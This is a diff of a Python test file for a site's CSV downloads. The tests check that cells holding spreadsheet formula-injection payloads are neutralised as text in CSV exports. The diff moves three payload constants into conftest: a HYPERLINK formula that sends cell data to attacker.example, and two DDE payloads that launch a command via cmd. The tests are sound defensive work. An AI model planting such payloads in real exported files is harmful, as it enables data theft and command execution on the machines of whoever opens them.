@@ -11,11 +11,7 @@ import pytest
 
 from calculators import catalogue
 from calculators.formatting import csv_cell, csv_writer
-from conftest import copy_data, rewrite_csv_cell
-
-HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
-DDE = "=cmd|' /C calc'!A0"
-AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+from conftest import AT_SUM, DDE, HYPERLINK
 
 
 @pytest.mark.parametrize("cell, want", [
@@ -89,23 +85,17 @@ def test_calculator_csvs_neutralise_names_from_data(bundle, params):
     assert diff == {("Egress Gateway", "'" + HYPERLINK)}
 
 
-def test_dataset_and_table_csvs_neutralise_cells(tmp_path):
+def test_dataset_and_table_csvs_neutralise_cells(variant_site):
     """A data cell holding each payload reaches csv/resources.csv and the per-table CSV as text;
-    the XLSX and JSON keep the exact value. (The downloads as the build's downloads step writes them,
-    atlas.downloads.write, from data validated as the build validates it; not a whole site.)"""
+    the XLSX and JSON keep the exact value. The downloads of the variant build (conftest.variant_site), whose
+    data/bsf/resources.csv has the three formulas as the notes of its first three rows."""
     import json
 
-    from atlas import downloads
-    from atlas.datastore import load
-    from atlas.pages.products import Renderer
-    d = copy_data(tmp_path)
-    rewrite_csv_cell(d / "bsf" / "resources.csv", 0, "note", HYPERLINK)
-    rewrite_csv_cell(d / "bsf" / "resources.csv", 1, "note", DDE)
-    rewrite_csv_cell(d / "bsf" / "resources.csv", 2, "note", AT_SUM)
-    out = tmp_path / "docs"
-    downloads.write(Renderer(load(d)), out)
-    first = next(csv.DictReader((d / "bsf" / "resources.csv").open()))
+    data = variant_site.parent / "data"
+    assert [r["note"] for r in list(csv.DictReader((data / "bsf" / "resources.csv").open()))[:3]] == [HYPERLINK, DDE, AT_SUM]
+    first = next(csv.DictReader((data / "bsf" / "resources.csv").open()))
     table = f"tables/bsf/{first['table_id']}.csv"
+    out = variant_site
     for path in ("csv/resources.csv", table):
         rows = list(csv.DictReader((out / "downloads" / path).open(encoding="utf-8")))
         notes = [x["note"] for x in rows if x["doc"] == "bsf"][:3]
